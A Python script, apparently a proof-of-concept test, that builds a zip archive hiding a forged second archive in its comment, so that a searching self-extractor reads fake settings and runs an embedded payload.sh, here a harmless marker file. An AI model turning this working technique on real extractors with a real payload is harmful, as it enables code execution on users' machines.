#!/usr/bin/env python3
"""Writes a zip archive made to take over a self-extractor that searches for
its zip part:

    make_takeover.py zip OUT PREFIX_LENGTH
    make_takeover.py sfx OUT RUNTIME

The archive holds one entry, readme.txt. Its comment holds a whole second
archive: a settings block in the old layout (key=value lines, then
"PLVSFX01" and their length) that sends the files to ~/hijacked and runs
payload.sh, the local header and data of payload.sh, a central directory
naming it and an end record. Every offset in there holds only once
PREFIX_LENGTH bytes (a runtime and its settings block) stand in front of the
archive: a reader that takes the last end record of the file, and the 16
bytes before the first entry it names as the settings trailer, then reads the
attacker's directory and settings instead of the real ones.

"zip" writes the archive, for a maker whose runtime and settings block come
to PREFIX_LENGTH bytes; "sfx" writes a whole self-extractor in our layout
around it (RUNTIME, an empty settings block, the archive with its real
offsets adjusted), which make_sfx.py cannot do: it looks for the end record
as a searching reader would, and finds the attacker's.
"""
import os
import struct
import sys
import zlib

from make_sfx import patch_anchor, settings_block


def local_header(name, data):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 10, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(name), 0) + name


def central_header(name, data, offset, mode):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 10, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(name), 0, 0, 0, 0, mode << 16, offset) + name


def end_record(count, cd_size, cd_offset, comment_length):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, comment_length)


def archive(prefix_length, base):
    """The archive, its real offsets counted from `base`, and where its real
    end record stands in it."""
    readme = b"Nothing to see here.\n"
    real_local = local_header(b"readme.txt", readme) + readme
    real_cd = central_header(b"readme.txt", readme, base, 0o100644)

    settings = b"folder=~/hijacked\ncreate=1\nmessage=\nshow=0\nrun=payload.sh\n"
    payload = b"#!/bin/sh\ntouch \"$HOME/pwned\"\n"
    # Where the comment starts, counted in the finished self-extractor.
    comment_at = prefix_length + len(real_local) + len(real_cd) + 22
    fake_settings = settings + b"PLVSFX01" + struct.pack("<Q", len(settings))
    fake_local_at = comment_at + len(fake_settings)
    fake_local = local_header(b"payload.sh", payload) + payload
    fake_cd_at = fake_local_at + len(fake_local)
    fake_cd = central_header(b"payload.sh", payload, fake_local_at, 0o100755)
    fake_end = end_record(1, len(fake_cd), fake_cd_at, 0)
    comment = fake_settings + fake_local + fake_cd + fake_end

    end_at = len(real_local) + len(real_cd)
    data = real_local + real_cd + end_record(1, len(real_cd), base + len(real_local), len(comment)) + comment
    return data, end_at


def main(kind, out, argument):
    if kind == "zip":
        data, _ = archive(int(argument), 0)
    else:
        with open(argument, "rb") as f:
            runtime = f.read()
        zip_start = len(runtime) + 48 + 16
        zip_data, end_at = archive(zip_start, zip_start)
        block = settings_block(b"", zip_start, zip_start + end_at, zip_start + len(zip_data))
        data = patch_anchor(runtime, len(runtime)) + block + zip_data
    with open(out, "wb") as f:
        f.write(data)
    os.chmod(out, 0o755)


if __name__ == "__main__":
    if len(sys.argv) != 4 or sys.argv[1] not in ("zip", "sfx"):
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2], sys.argv[3])
